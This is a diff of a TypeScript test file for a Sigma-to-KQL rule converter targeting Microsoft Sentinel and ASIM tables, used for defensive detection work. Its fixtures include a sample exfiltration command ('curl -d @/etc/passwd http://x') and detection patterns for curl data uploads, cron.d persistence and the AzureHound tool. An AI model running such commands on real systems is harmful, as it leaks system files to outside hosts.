@@ -19,6 +19,10 @@ import { parse } from '../../../src/parser/index.js';
 import { runKql, type Row } from './kql-interpreter.js';
 import { kqlErrors } from './kusto.js';
 import { expectGolden } from '../../helpers/golden.js';
+import { parse as parseYaml } from 'yaml';
+import type { SigmaRule } from '../../../src/ast/types.js';
+import { getBackend } from '../../../src/backends/index.js';
+import { loadPipelineSpec } from '../../../src/pipelines/index.js';
 
 const HERE = path.dirname(new URL(import.meta.url).pathname);
 
@@ -30,12 +34,16 @@ interface Pair {
   event: Record<string, unknown>;
   /** The same event as a row of the routed table. */
   row: Row;
+  /** The row's table when the route reads several (a union): default, the case's table. */
+  table?: string;
 }
 
 interface Case {
   name: string;
   pipeline: 'sentinel' | 'sentinel-asim';
   table: string;
+  /** The query's first line when it is not the table (a union of tables). */
+  source?: string;
   logsource: string;
   detection: string;
   pairs: Pair[];
@@ -212,6 +220,9 @@ const CASES: Case[] = [
     name: 'azure signinlogs',
     pipeline: 'sentinel',
     table: 'SigninLogs',
+    // Non-interactive sign-ins too; their DeviceDetail is JSON text, parsed in the union's leg.
+    source:
+      'union isfuzzy=true SigninLogs, (AADNonInteractiveUserSignInLogs | extend DeviceDetail = todynamic(DeviceDetail))',
     logsource: '  product: azure\n  service: signinlogs',
     detection: `  sel:\n    ResultType: 50126\n    DeviceDetail.trusttype: 'Azure AD joined'\n  condition: sel`,
     pairs: [
@@ -222,6 +233,21 @@ const CASES: Case[] = [
       {
         event: { ResultType: '0', DeviceDetail: { trusttype: 'Azure AD joined' } },
         row: { ResultType: '0', DeviceDetail: { trustType: 'Azure AD joined' } },
+      },
+      {
+        event: { ResultType: '50126', DeviceDetail: { trusttype: 'Azure AD joined' } },
+        table: 'AADNonInteractiveUserSignInLogs',
+        row: { ResultType: '50126', DeviceDetail: '{"deviceId":"","trustType":"Azure AD joined"}' },
+      },
+      {
+        event: { ResultType: '50126', DeviceDetail: { trusttype: 'Azure AD registered' } },
+        table: 'AADNonInteractiveUserSignInLogs',
+        row: { ResultType: '50126', DeviceDetail: '{"trustType":"Azure AD registered"}' },
+      },
+      {
+        event: { ResultType: '50126' },
+        table: 'AADNonInteractiveUserSignInLogs',
+        row: { ResultType: '50126', DeviceDetail: '' },
       },
     ],
   },
@@ -523,6 +549,113 @@ const CASES: Case[] = [
       { event: { dst_port: 445, action: 'deny' }, row: { DstPortNumber: 445, DvcAction: 'Deny' } },
     ],
   },
+  {
+    name: 'asim linux process_creation',
+    pipeline: 'sentinel-asim',
+    table: 'imProcessCreate',
+    logsource: '  product: linux\n  category: process_creation',
+    detection: `  sel:\n    Image|endswith: '/curl'\n    CommandLine|contains: ' -d @'\n    ParentImage|endswith: '/bash'\n  condition: sel`,
+    pairs: [
+      {
+        event: { Image: '/usr/bin/curl', CommandLine: 'curl -d @/etc/passwd http://x', ParentImage: '/bin/bash' },
+        row: {
+          DvcOs: 'Linux',
+          TargetProcessName: '/usr/bin/curl',
+          TargetProcessCommandLine: 'curl -d @/etc/passwd http://x',
+          ActingProcessName: '/bin/bash',
+        },
+      },
+      {
+        event: { Image: '/usr/bin/curl', CommandLine: 'curl http://x', ParentImage: '/bin/bash' },
+        row: {
+          DvcOs: 'Linux',
+          TargetProcessName: '/usr/bin/curl',
+          TargetProcessCommandLine: 'curl http://x',
+          ActingProcessName: '/bin/bash',
+        },
+      },
+    ],
+  },
+  {
+    name: 'asim linux file_event',
+    pipeline: 'sentinel-asim',
+    table: 'imFileEvent',
+    logsource: '  product: linux\n  category: file_event',
+    detection: `  sel:\n    TargetFilename|startswith: '/etc/cron.d/'\n  condition: sel`,
+    pairs: [
+      {
+        event: { TargetFilename: '/etc/cron.d/evil' },
+        row: { EventType: 'FileCreated', DvcOs: 'Linux', TargetFilePath: '/etc/cron.d/evil' },
+      },
+      {
+        event: { TargetFilename: '/tmp/cron.d/evil' },
+        row: { EventType: 'FileCreated', DvcOs: 'Linux', TargetFilePath: '/tmp/cron.d/evil' },
+      },
+    ],
+  },
+  {
+    name: 'asim azure signinlogs',
+    pipeline: 'sentinel-asim',
+    table: 'imAuthentication',
+    logsource: '  product: azure\n  service: signinlogs',
+    detection: `  sel:\n    userAgent|contains: 'azurehound'\n    ResultType: 0\n  condition: sel`,
+    pairs: [
+      {
+        event: { userAgent: 'azurehound/v2.1', ResultType: '0' },
+        row: { Type: 'SigninLogs', HttpUserAgent: 'azurehound/v2.1', EventResult: 'Success' },
+      },
+      {
+        event: { userAgent: 'azurehound/v2.1', ResultType: '50126' },
+        row: { Type: 'AADNonInteractiveUserSignInLogs', HttpUserAgent: 'azurehound/v2.1', EventResult: 'Failure' },
+      },
+      {
+        event: { userAgent: 'Mozilla/5.0', ResultType: '0' },
+        row: { Type: 'AADNonInteractiveUserSignInLogs', HttpUserAgent: 'Mozilla/5.0', EventResult: 'Success' },
+      },
+    ],
+  },
+  {
+    name: 'asim azure auditlogs',
+    pipeline: 'sentinel-asim',
+    table: 'imAuditEvent',
+    logsource: '  product: azure\n  service: auditlogs',
+    detection: `  sel:\n    properties.message: 'Invite external user'\n    Status: 'failure'\n  condition: sel`,
+    pairs: [
+      {
+        event: { properties: { message: 'Invite external user' }, Status: 'failure' },
+        row: { Type: 'AuditLogs', Operation: 'Invite external user', EventResult: 'Failure' },
+      },
+      {
+        event: { properties: { message: 'Invite external user' }, Status: 'success' },
+        row: { Type: 'AuditLogs', Operation: 'Invite external user', EventResult: 'Success' },
+      },
+    ],
+  },
+  {
+    name: 'asim azure activitylogs',
+    pipeline: 'sentinel-asim',
+    table: 'imAuditEvent',
+    logsource: '  product: azure\n  service: activitylogs',
+    detection: `  sel:\n    CategoryValue: 'Administrative'\n    operationName|endswith: '/VAULTS/DELETE'\n  condition: sel`,
+    pairs: [
+      {
+        event: { CategoryValue: 'Administrative', operationName: 'MICROSOFT.KEYVAULT/VAULTS/DELETE' },
+        row: {
+          Type: 'AzureActivity',
+          EventOriginalType: 'Administrative',
+          Operation: 'MICROSOFT.KEYVAULT/VAULTS/DELETE',
+        },
+      },
+      {
+        event: { CategoryValue: 'Administrative', operationName: 'MICROSOFT.KEYVAULT/VAULTS/WRITE' },
+        row: {
+          Type: 'AzureActivity',
+          EventOriginalType: 'Administrative',
+          Operation: 'MICROSOFT.KEYVAULT/VAULTS/WRITE',
+        },
+      },
+    ],
+  },
 ];
 
 describe('Sentinel source routes: golden query, Kusto binding, evaluator cross-check', () => {
@@ -536,7 +669,7 @@ describe('Sentinel source routes: golden query, Kusto binding, evaluator cross-c
       if (!r.ok) throw new Error(JSON.stringify(r.errors));
       const query = r.queries[0]!;
       expect(kqlErrors(query, 'sentinel'), query).toEqual([]);
-      expect(query.split('\n')[0]).toBe(c.table);
+      expect(query.split('\n')[0]).toBe(c.source ?? c.table);
       expectGolden(
         ctx,
         path.join(HERE, 'golden/sentinel-sources', `${c.name.replace(/[^a-z0-9]+/gi, '-')}.kql`),
@@ -548,9 +681,10 @@ describe('Sentinel source routes: golden query, Kusto binding, evaluator cross-c
       for (const p of c.pairs) {
         const want = matcher.matches(p.event);
         const row = structuredClone(p.row);
-        const types = new Map(tableColumns(c.table, 'sentinel')!);
+        const table = p.table ?? c.table;
+        const types = new Map(tableColumns(table, 'sentinel')!);
         const where = applyExtends(query, row, types);
-        const got = runKql(where, row, { table: c.table, columns: types });
+        const got = runKql(where, row, { table, columns: types });
         expect(got, `${JSON.stringify(p.event)} → ${JSON.stringify(row)}\n${query}`).toBe(want);
         verdicts.push(want);
       }
@@ -570,5 +704,164 @@ describe('Sentinel source routes: golden query, Kusto binding, evaluator cross-c
       const types = new Map(tableColumns(c.table, 'sentinel')!);
       expect(runKql(applyExtends(query, row, types), row, { table: c.table, columns: types })).toBe(false);
     }
+  });
+});
+
+describe('a route over a union of tables (Route.union): Entra ID sign-ins', () => {
+  const signin = (detection: string): SigmaRule => {
+    const doc = parse(
+      `title: t\nid: 5f0e8a55-0000-4000-8000-000000000001\nstatus: test\nlogsource:\n  product: azure\n  service: signinlogs\ndetection:\n${detection}\n  condition: sel\nlevel: low\ntags:\n  - attack.initial-access\n`,
+      { file: 'signin.yml' },
+    ).documents[0]!.document!;
+    if (doc.kind !== 'rule') throw new Error('not a rule');
+    return doc;
+  };
+
+  it('the Sentinel rule requires both tables of the Entra ID connector and maps entities both tables return', () => {
+    const rule = signin(`  sel:\n    ResultType: 50053`);
+    const r = convertDocument(rule, { target: 'kql', pipelines: ['sentinel'] });
+    if (!r.ok) throw new Error(JSON.stringify(r.errors));
+    expect(r.tables).toEqual(['SigninLogs', 'AADNonInteractiveUserSignInLogs']);
+    const format = getBackend('kql')!.formats.find((f) => f.name === 'sentinel-rule')!;
+    const doc = parseYaml(format.render(r, rule, {}).text) as Record<string, unknown>;
+    expect(doc['requiredDataConnectors']).toEqual([
+      { connectorId: 'AzureActiveDirectory', dataTypes: ['SigninLogs'] },
+      { connectorId: 'AzureActiveDirectory', dataTypes: ['AADNonInteractiveUserSignInLogs'] },
+    ]);
+    const columns = (doc['entityMappings'] as { fieldMappings: { columnName: string }[] }[]).flatMap((e) =>
+      e.fieldMappings.map((f) => f.columnName),
+    );
+    expect(columns).toContain('UserPrincipalName');
+    for (const table of r.tables)
+      for (const c of columns) expect(tableColumns(table, 'sentinel')!.has(c), c).toBe(true);
+    expect(kqlErrors(doc['query'] as string, 'sentinel')).toEqual([]);
+  });
+
+  it('a column only one of the tables has is C002 naming that table', () => {
+    const r = convertDocument(signin(`  sel:\n    RiskLevel: high`), { target: 'kql', pipelines: ['sentinel'] });
+    expect(r.ok).toBe(false);
+    if (r.ok) return;
+    expect(r.errors[0]!.code).toBe('C002');
+    expect(r.errors[0]!.message).toContain('AADNonInteractiveUserSignInLogs');
+  });
+
+  it('a column typed in a way no exact conversion unites is C044', () => {
+    // Reversed: DeviceDetail is text in the route's table and dynamic in the other one.
+    const text = `name: reversed\ndescription: d\ntargets: [kql]\nroutes:\n  - logsource: { product: azure, service: signinlogs }\n    table: AADNonInteractiveUserSignInLogs\n    union: [SigninLogs]\ntransformations:\n  - type: set_state\n    state: { product: sentinel }\n`;
+    const { spec } = loadPipelineSpec(text, 'reversed.yml');
+    const r = convertDocument(signin(`  sel:\n    DeviceDetail: x`), { target: 'kql', pipelines: [spec!] });
+    expect(r.ok).toBe(false);
+    if (r.ok) return;
+    expect(r.errors[0]!.code).toBe('C044');
+    expect(r.errors[0]!.message).toBe(
+      "column 'DeviceDetail' is string in AADNonInteractiveUserSignInLogs but dynamic in SigninLogs",
+    );
+  });
+});
+
+describe('sentinel-asim: routes read only their source, and refuse what ASIM rows cannot decide', () => {
+  const convertRule = (logsource: string, detection: string) => {
+    const doc = parse(
+      `title: t\nid: 5f0e8a55-0000-4000-8000-000000000002\nstatus: test\nlogsource:\n${logsource}\ndetection:\n${detection}\nlevel: low\n`,
+      { file: 'x.yml' },
+    ).documents[0]!.document!;
+    return convertDocument(doc, { target: 'kql', pipelines: ['sentinel-asim'] });
+  };
+  const survives = (query: string, table: string, row: Row): boolean =>
+    runKql(query, row, { table, columns: new Map(tableColumns(table, 'sentinel')!) });
+
+  it('Linux rows are those whose parser names the OS Linux; cloud rows those of the source table', () => {
+    const byName = (name: string): Case => CASES.find((c) => c.name === name)!;
+    for (const [name, key, others] of [
+      ['asim linux process_creation', 'DvcOs', ['Windows', '']],
+      ['asim linux file_event', 'DvcOs', ['Windows', '']],
+      ['asim azure signinlogs', 'Type', ['AADServicePrincipalSignInLogs', 'OktaV2_CL']],
+      ['asim azure auditlogs', 'Type', ['AzureActivity', 'GitHubAuditLogPolling_CL']],
+      ['asim azure activitylogs', 'Type', ['AuditLogs', 'AWSCloudTrail']],
+    ] as const) {
+      const c = byName(name);
+      const r = convertRule(c.logsource, c.detection);
+      if (!r.ok) throw new Error(JSON.stringify(r.errors));
+      const matching = c.pairs.find((p) => compileRuleOf(c).matches(p.event))!.row;
+      expect(survives(r.queries[0]!, c.table, matching), name).toBe(true);
+      for (const other of others)
+        expect(survives(r.queries[0]!, c.table, { ...matching, [key]: other }), `${name}: ${key} ${other}`).toBe(false);
+    }
+  });
+
+  it('a keyword search on an ASIM route is C004: the row is not the event', () => {
+    const r = convertRule('  category: webserver', `  keywords:\n    - '<script'\n  condition: keywords`);
+    expect(r.ok).toBe(false);
+    if (r.ok) return;
+    expect(r.errors[0]!.code).toBe('C004');
+    expect(r.errors[0]!.message).toContain('keyword search');
+    // An unrouted log source stays C001 (no route), not the keyword refusal.
+    const unrouted = convertRule(
+      '  product: linux\n  service: auditd',
+      `  keywords:\n    - 'x'\n  condition: keywords`,
+    );
+    expect(unrouted.ok || unrouted.errors[0]!.code).toBe('C001');
+  });
+
+  it('azure activity of another category than Administrative is C007 (imAuditEvent holds none)', () => {
+    const r = convertRule(
+      '  product: azure\n  service: activitylogs',
+      `  sel:\n    CategoryValue: 'Policy'\n  condition: sel`,
+    );
+    expect(r.ok).toBe(false);
+    if (r.ok) return;
+    expect(r.errors[0]!.code).toBe('C007');
+  });
+
+  it('a sign-in result code other than 0 is C007: EventResult only tells success from failure', () => {
+    const r = convertRule('  product: azure\n  service: signinlogs', `  sel:\n    ResultType: 50053\n  condition: sel`);
+    expect(r.ok).toBe(false);
+    if (r.ok) return;
+    expect(r.errors[0]!.code).toBe('C007');
+  });
+});
+
+function compileRuleOf(c: Case): ReturnType<typeof compileRule> {
+  const doc = parse(ruleText(c), { file: `${c.name}.yml` }).documents[0]!.document!;
+  if (doc.kind !== 'rule') throw new Error('not a rule');
+  return compileRule(doc);
+}
+
+describe('a correlation over a union route', () => {
+  it('counts failed sign-ins of both tables per user, and binds', () => {
+    const text = `title: failed sign-in
+name: failed_signin
+status: test
+logsource:
+  product: azure
+  service: signinlogs
+detection:
+  sel:
+    ResultType: 50126
+    DeviceDetail.trusttype: 'Azure AD joined'
+  condition: sel
+---
+title: many failed sign-ins
+status: test
+correlation:
+  type: event_count
+  rules: [failed_signin]
+  group-by: [UserPrincipalName]
+  timespan: 10m
+  condition:
+    gte: 5
+`;
+    const docs = parse(text, { file: 'corr.yml' }).documents.map((d) => d.document!);
+    const r = convertDocument(docs[1]!, {
+      target: 'kql',
+      pipelines: ['sentinel'],
+      lookup: (ref) => docs.find((d) => d.kind === 'rule' && d.name === ref),
+    });
+    if (!r.ok) throw new Error(JSON.stringify(r.errors));
+    expect(r.tables).toEqual(['SigninLogs', 'AADNonInteractiveUserSignInLogs']);
+    expect(r.queries[0]).toContain(
+      'union isfuzzy=true SigninLogs, (AADNonInteractiveUserSignInLogs | extend DeviceDetail = todynamic(DeviceDetail))',
+    );
+    expect(kqlErrors(r.queries[0]!, 'sentinel'), r.queries[0]).toEqual([]);
   });
 });
